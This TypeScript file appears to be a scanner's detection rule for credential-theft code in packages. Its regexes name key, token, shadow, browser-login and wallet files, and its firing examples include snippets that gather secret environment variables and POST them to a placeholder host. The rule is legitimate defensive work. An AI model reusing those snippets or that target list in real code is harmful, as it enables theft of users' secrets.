import type { Rule } from '../../rule.js';

export const rule: Rule = {
  pattern: 'credential_read',
  variant: 'in-code',
  threat: 'INJECTION',
  direction: 'inbound',
  severity: 'high',
  confidence: 'medium',
  group: 'credential-reads',
  about:
    'Code opens a file in which credentials lie, or picks the secrets out of the environment and sends them: what thieves in packages do.',
  anatomy:
    'open, readFile or expanduser with the path of a key or token; all of the environment, words such as TOKEN, and a request',
  source:
    'https://attack.mitre.org/techniques/T1552/001/ and https://www.cisa.gov/news-events/alerts/2025/09/23/widespread-supply-chain-compromise-impacting-npm-ecosystem',
  match: [
    // open(os.path.expanduser("~/.ssh/id_rsa")), fs.readFileSync(home + "/.aws/credentials")
    {
      re: /(?:open|readfilesync|readfile|read_text|read_bytes|expanduser|file_get_contents|file\.read|ioutil\.readfile|os\.readfile)\s{0,2}\([^\n;]*(?:\.ssh[/\\]{1,2}id_(?:rsa|ed25519|ecdsa|dsa)|\.aws[/\\]{1,2}credentials|\/etc\/shadow|\.git-credentials|\.docker[/\\]{1,2}config\.json|\.kube[/\\]{1,2}config|login data|key4\.db|logins\.json|wallet\.dat|application_default_credentials)/i,
      window: 160,
      accept: ({ text, after }) =>
        !/^\.(?:pub|example|sample)\b/.test(after) && !/fixtures?|testdata|mock|example/i.test(text),
    },
    // for key in os.environ: if "TOKEN" in key ... requests.post(...)
    {
      re: /os\.environ(?:\.items|\.copy|\)|:|\s)[^]*(?:secret|token|password|credential)[^]*(?:requests\.(?:post|put)|urlopen|httpx\.(?:post|put)|http\.client|aiohttp|\.post)\s{0,2}\(/i,
      window: 1_000,
      accept: ({ text }) => /["'`](?:\w*_)?(?:secret|token|password|credential)s?(?:_\w*)?["'`]/i.test(text),
    },
    {
      re: /(?:object\.(?:keys|entries)\(\s{0,2}process\.env\s{0,2}\)|in\sprocess\.env\))[^]*(?:secret|token|password|credential)[^]*(?:fetch|axios\.post|axios|https?\.request|\.post|sendbeacon)\s{0,2}\(/i,
      window: 1_000,
    },
  ],
  examples: {
    fires: [
      'with open(os.path.expanduser("~/.ssh/id_rsa")) as f:',
      "const key = fs.readFileSync(home + '/.aws/credentials', 'utf8');",
      'for key, value in os.environ.items():\n    if "TOKEN" in key:\n        found[key] = value\nrequests.post("https://files.invalid/s", json=found)',
      'const found = Object.entries(process.env).filter(([k]) => /secret|token/i.test(k));\nfetch("https://files.invalid/s", { method: "POST", body: JSON.stringify(found) });',
    ],
    silent: [
      'with open(os.path.expanduser("~/.config/app.toml")) as f:',
      "fs.readFileSync(home + '/.ssh/id_rsa.pub')",
      "readFileSync('fixtures/.aws/credentials')",
      'for key, value in os.environ.items():\n    print(key)\n',
      'Object.keys(process.env).forEach((name) => delete process.env[name]);',
      'token = os.environ["TOKEN"]\nrequests.post(url, headers={"Authorization": token})',
    ],
  },
};
